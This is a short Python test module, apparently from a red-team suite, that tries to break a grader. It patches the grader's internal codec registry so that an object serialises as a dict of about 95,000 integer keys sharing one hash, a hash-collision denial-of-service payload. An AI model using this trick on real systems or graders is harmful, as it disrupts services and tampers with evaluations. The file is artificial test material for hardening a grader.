"""Answers with a dict of a hundred thousand keys that have one hash, never built here (point 4)."""

from redteam.tools import World, in_scale

BASE = "honest"
COSTS = ("test_scale", "test_scale-random")
LIMITS = "short"


def attack(notebook, world: World) -> None:
    in_scale(
        notebook,
        """
        from grader.inside import codec

        class Lie:
            pass

        def write(encoder, value):
            keys = [i * (2**61 - 1) for i in range(1, 95_000)]
            return ["D", *[part for key in keys for part in (key, 0)]]

        codec._WRITERS[Lie] = write
        return Lie()
        """,
    )
